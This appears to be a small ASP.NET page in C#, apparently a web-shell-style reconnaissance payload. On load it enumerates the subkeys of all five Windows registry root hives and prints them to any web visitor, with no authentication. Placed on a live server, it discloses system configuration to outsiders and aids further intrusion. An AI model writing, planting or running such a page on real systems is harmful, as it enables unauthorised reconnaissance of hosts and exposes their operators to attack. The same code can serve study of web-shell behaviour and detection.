<%@ Page Language="C#" %>
<%@ Import Namespace="Microsoft.Win32" %>
<%
var roots = new RegistryKey[] { Registry.ClassesRoot, Registry.CurrentUser, Registry.LocalMachine, Registry.Users, Registry.CurrentConfig };
foreach (var r in roots) foreach (var n in r.GetSubKeyNames()) Response.Write(r.Name + "\\" + n + "<br>");
%>
